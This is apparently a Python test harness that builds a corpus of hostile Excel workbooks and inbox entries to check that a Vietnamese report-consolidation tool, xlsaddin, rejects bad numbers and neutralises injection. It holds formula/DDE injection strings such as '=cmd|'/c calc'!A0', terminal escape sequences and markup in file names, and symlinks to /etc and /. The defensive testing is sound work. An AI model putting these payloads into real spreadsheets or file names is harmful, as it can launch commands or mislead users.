    expected: dict[str, frozenset[str]] = {}
    finance = mappings.appendix("nguon_luc_tai_chinh")
    tthc = mappings.appendix("ket_qua_tthc")
    tasks = mappings.appendix("nhiem_vu")

    def pl02(name: str, codes: set[str], **changes: object) -> Path:
        rows: dict[str, dict[str, object]] = {
            "chi_dau_tu": {
                "du_toan": 100,
                "duoc_duyet": 90,
                "duoc_phan_bo": 60,
                "chua_phan_bo": 30,
                "da_giai_ngan": 50,
                "noi_dung_giai_ngan": "Mua máy tính",
            },
            "chi_thuong_xuyen": {
                "du_toan": 10,
                "duoc_duyet": 10,
                "duoc_phan_bo": 10,
                "chua_phan_bo": 0,
                "da_giai_ngan": 0,
            },
        }
        rows["chi_dau_tu"].update(changes)
        expected[name] = frozenset(codes)
        fill = Filled(header={"reporter": "Lê Văn A"}, rows=rows)
        return write_workbook(mappings, finance, folder / name, unit=next(units), fill=fill)

    # values no figure can be (written as the sentinel, then patched in the XML)
    for name, raw, code in (
        ("value_nan.xlsx", b"NaN", "number-not-finite"),
        ("value_inf.xlsx", b"inf", "number-not-finite"),
        ("value_minus_inf.xlsx", b"-inf", "number-not-finite"),
        ("value_max_float.xlsx", b"1.7976931348623157E+308", "number-too-large"),
        ("value_overflow_text_float.xlsx", b"1e400", "number-not-finite"),
        ("value_1e27.xlsx", b"1E+27", "number-too-large"),
        ("value_1e15.xlsx", b"1E+15", "number-too-large"),
        ("value_minus_1e15.xlsx", b"-1E+15", "number-too-large"),
    ):
        _patch_sheet_values(pl02(name, {code}, du_toan=SENTINEL), raw)
    pl02("value_just_below_bound.xlsx", set(), du_toan=999_999_999_999_999, duoc_duyet=90)
    pl02("value_text_400_digits.xlsx", {"number-too-long", "number-as-text"}, du_toan="1" * 400)
    pl02("value_text_21_digits.xlsx", {"number-too-long", "number-as-text"}, du_toan="9" * 21)
    pl02(
        "value_text_huge.xlsx",
        {"number-too-large", "number-as-text"},
        du_toan="999.999.999.999.999.999",
    )
    pl02("value_text_e_notation.xlsx", {"number-as-text"}, du_toan="1e400")
    _patch_sheet_values(
        pl02("value_nan_in_text_column.xlsx", {"number-not-finite"}, noi_dung_giai_ngan=SENTINEL),
        b"NaN",
    )
    _patch_sheet_values(
        pl02("value_tiny_denominator.xlsx", set(), duoc_phan_bo=SENTINEL, chua_phan_bo=30),
        b"4.9E-324",
    )
    for key, text in INJECTIONS.items():
        pl02(f"{key}.xlsx", set(), noi_dung_giai_ngan=text)

    name = "meta_template_markup.xlsx"
    _patch_shared_string(pl02(name, {"template-unknown"}), finance.id, "[/red]x[bold]")
    expected[name] = frozenset({"template-unknown"})
    name = "meta_sheet_markup.xlsx"
    _patch_shared_string(pl02(name, set()), finance.sheet_name, "[/bold]=cmd|'/c calc'!A0")
    expected[name] = frozenset({"sheet-missing"})

    # an int column and a date column with values no form can hold
    rows = {
        r.key: {c.key: 1 for c in tthc.table.columns if c.is_input and c.type == "int"}
        for r in tthc.table.rows
        if r.kind == "input"
    }
    first = next(iter(rows))
    rows[first]["so_tthc"] = SENTINEL
    path = write_workbook(
        mappings, tthc, folder / "value_int_huge.xlsx", unit=next(units), fill=Filled(rows=rows)
    )
    _patch_sheet_values(path, b"1E+20")
    expected[path.name] = frozenset({"number-too-large"})
    for name, raw, codes in (
        ("value_date_inf.xlsx", b"inf", {"number-not-finite"}),
        ("value_date_huge_serial.xlsx", b"1E+300", {"date-out-of-range"}),
    ):
        fill = Filled(
            rows=[
                {"ten_nhiem_vu": "Số hóa hồ sơ", "thoi_han": SENTINEL, "ket_qua": "Đang thực hiện"}
            ]
        )
        path = write_workbook(mappings, tasks, folder / name, unit=next(units), fill=fill)
        _patch_sheet_values(path, raw)
        expected[name] = frozenset(codes)
    fill = Filled(
        rows=[
            {
                "ten_nhiem_vu": INJECTIONS["text_formula_dde"],
                "van_ban_giao": INJECTIONS["text_markup"],
                "thoi_han": dt.date(2025, 6, 30),
                "ket_qua": "Đang thực hiện",
                "mo_ta": INJECTIONS["text_field_code"],
            }
        ]
    )
    write_workbook(mappings, tasks, folder / "task_injections.xlsx", unit=next(units), fill=fill)
    expected["task_injections.xlsx"] = frozenset({"task-overdue"})
    return expected


# --------------------------------------------------------------------------- the inbox itself

#: File names an officer's inbox may hold (each a valid workbook).
HOSTILE_NAMES = (
    "[bold]Xã[/bold] [link=mailto:x@evil.example]báo cáo[/link].xlsx",  # a folder "[bold]Xã["
    "=cmd|' calc'!A0.xlsx",
    "ESC \x1b[2J\x1b]0;title\x07.xlsx",
    "dòng\nmới.xlsx",
    ":warning: {units_total} %s.xlsx",
)


def build_inbox_hazards(folder: Path, valid: bytes) -> dict[str, str | None]:
    """Entries that are not files to read, and files with hostile names (POSIX only)."""
    import os
    import socket

    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str | None] = {}
    os.mkfifo(folder / "fifo.xlsx")
    expected["fifo.xlsx"] = "inbox-special-file"
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(str(folder / "socket.xlsx"))
    finally:
        sock.close()
    expected["socket.xlsx"] = "inbox-special-file"
    (folder / "broken_link.xlsx").symlink_to(folder / "da_xoa.xlsx")
    expected["broken_link.xlsx"] = "inbox-broken-link"
    (folder / "link_to_etc.xlsx").symlink_to("/etc/hostname")
    expected["link_to_etc.xlsx"] = "inbox-link-outside"
    (folder / "link_to_root_folder").symlink_to("/")
    expected["link_to_root_folder"] = "inbox-link-outside"
    (folder / "broken_folder_link").symlink_to(folder / "khong_co")
    expected["broken_folder_link"] = "inbox-broken-link"
    loop = folder / "vong_lap.xlsx"
    loop.symlink_to(loop)
    expected["vong_lap.xlsx"] = "inbox-broken-link"
    (folder / "thu_muc.xlsx").mkdir()  # a folder named like a workbook: walked, empty
    for name in HOSTILE_NAMES:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(valid)
        expected[name] = None
    odd = os.fsencode(folder) + b"/t\xean kh\xf4ng UTF-8.xlsx"
    with open(odd, "wb") as fh:
        fh.write(valid)
    expected[os.fsdecode(b"t\xean kh\xf4ng UTF-8.xlsx")] = None
    return expected


# --------------------------------------------------------------------------- all commands

#: Run a command in a child and record the peak resident memory of it and everything it
#: started (ru_maxrss of the children it waited for: the largest single process).
_MEASURED = (
    "import resource, subprocess, sys\n"
    "done = subprocess.run(sys.argv[2:])\n"
    "peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss\n"
    "open(sys.argv[1], 'w').write(str(peak))\n"
    "sys.exit(done.returncode)\n"
)
_CLI = "import sys; from xlsaddin.cli import main; sys.argv[0] = 'xlsaddin'; main()"


@dataclass
class Figures:
    cases: int = 0
    clean: int = 0
    tracebacks: int = 0
    injections: int = 0
    peak_mb: float = 0.0
    seconds: dict[str, float] = field(default_factory=dict)
    exit_codes: dict[str, int] = field(default_factory=dict)
    unclean: list[str] = field(default_factory=list)
    live: list[str] = field(default_factory=list)


def _run_cli(name: str, args: list[str], work: Path, figures: Figures) -> str:
    import os
    import subprocess
    import sys
    import time

    peak_file = work / f"peak_{name}.txt"
    env = {**os.environ, "XLSADDIN_LOG_DIR": str(work / "crash_logs")}
    env["PYTHONPATH"] = str(Path(__file__).resolve().parents[1])
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-c", _MEASURED, str(peak_file), sys.executable, "-c", _CLI, *args],
        capture_output=True,
        env=env,
        cwd=work,
        timeout=1200,
        check=False,
    )
    figures.seconds[name] = round(time.monotonic() - started, 1)
    figures.exit_codes[name] = done.returncode
    figures.peak_mb = max(figures.peak_mb, int(peak_file.read_text()) / 1024)
    output = done.stdout.decode("utf-8", "replace") + done.stderr.decode("utf-8", "replace")
    if done.returncode not in (0, 1, 2) or "Traceback" in output:
        figures.tracebacks += 1
        figures.unclean.append(f"{name}: exit {done.returncode}: {output[-2000:]}")
    if "\x1b" in output:  # a control sequence from a file name reached the terminal
        figures.injections += 1
        figures.live.append(f"{name}: ESC in terminal output")
    return done.stdout.decode("utf-8", "replace")


def live_formulas(path: Path) -> list[str]:
    """Formulas (and field codes) in an output file that carry attacker text."""
    import re

    found: list[str] = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if not name.endswith(".xml"):
                continue
            text = zf.read(name).decode("utf-8", "replace")
            formulas = re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?>([^<]*)<", text)
            formulas += re.findall(r"<(?:\w+:)?(?:formula1?|formula2)>([^<]*)<", text)
            fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", text)
            fields += re.findall(r'<w:fldSimple[^>]*w:instr="([^"]*)"', text)
            found += [f"{path.name}:{name}: {f}" for f in formulas if any(m in f for m in MARKERS)]
            found += [f"{path.name}:{name}: field {f}" for f in fields if f.strip() != "PAGE"]
            found += [f"{path.name}:{name}: DDE" for _ in re.findall(r"<(?:\w+:)?ddeLink\b", text)]
    return found


def run_corpus(work: Path, mappings: Any) -> Figures:
    """Build every hostile case into one inbox and run every command over it."""
    import json

    from xlsaddin.core.untrusted import visible
    from xlsaddin.forms import Filled, write_workbook
    from xlsaddin.units import by_code

    inbox = work / "hop_thu"
    intake = build_corpus(inbox / "tep")
    read = build_read_corpus(inbox / "doc")
    books = build_workbooks(inbox / "bieu", mappings)
    sample = write_workbook(
        mappings,
        mappings.appendix("nhiem_vu"),
        work / "mau.xlsx",
        unit=by_code(21484),
        fill=Filled(rows=[{"ten_nhiem_vu": "Số hóa", "thoi_han": dt.date(2025, 12, 1)}]),
    )
    hazards = build_inbox_hazards(inbox / "muc", sample.read_bytes())
    figures = Figures(cases=len(intake) + len(read) + len(books) + len(hazards))

    report = json.loads(_run_cli("validate", ["validate", str(inbox), "--json"], work, figures))
    _run_cli("annotate", ["validate", str(inbox), "--annotate", "ban_sao"], work, figures)
    out = work / "tong_hop"
    args = [str(inbox), "--out", str(out / "TINH.xlsx"), "--json", str(out / "TINH.json")]
    _run_cli("consolidate", ["consolidate", *args], work, figures)
    args = [str(out / "TINH.xlsx"), "--docx", str(out / "BC.docx"), "--xlsx", str(out / "B.xlsx")]
    _run_cli("report", ["report", *args], work, figures)
    if (work / "crash_logs").exists() and any((work / "crash_logs").iterdir()):
        figures.tracebacks += 1
        figures.unclean.append("crash log written")

    codes: dict[str, set[str]] = {f["file"]: set() for f in report["files"]}
    for issue in report["issues"]:
        codes.setdefault(issue.get("file", ""), set()).add(issue["code"])
    read_codes = {"layout-unknown"}
    for folder, cases in (("tep", intake), ("doc", read), ("muc", hazards)):
        for name, code in cases.items():
            shown = visible(f"{folder}/{name}")
            got = codes.get(shown)
            ok = got is not None and (
                code in got if code else not {c for c in got if c.startswith(("file-", "inbox-"))}
            )
            figures.clean += ok
            if not ok:
                figures.unclean.append(f"{shown}: expected {code}, got {got}")
    for name, wanted in books.items():
        got = codes.get(f"bieu/{name}")
        ok = got is not None and wanted <= got and not (got & read_codes)
        figures.clean += ok
        if not ok:
            figures.unclean.append(f"bieu/{name}: expected {sorted(wanted)}, got {got}")

    written = [*out.glob("*.xlsx"), *out.glob("*.docx"), *(work / "ban_sao").glob("*.xlsx")]
    for path in written:
        live = live_formulas(path)
        figures.injections += len(live)
        figures.live += live
    return figures


if __name__ == "__main__":  # figures for docs/validation.md
    import sys
    import tempfile

    from xlsaddin.spec import load_mappings

    root = Path(__file__).resolve().parents[1]
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        result = run_corpus(Path(tmp), load_mappings(root / "mappings"))
    for key, value in vars(result).items():
        print(f"{key}: {value}")
    sys.exit(0 if result.clean == result.cases and not result.tracebacks else 1)
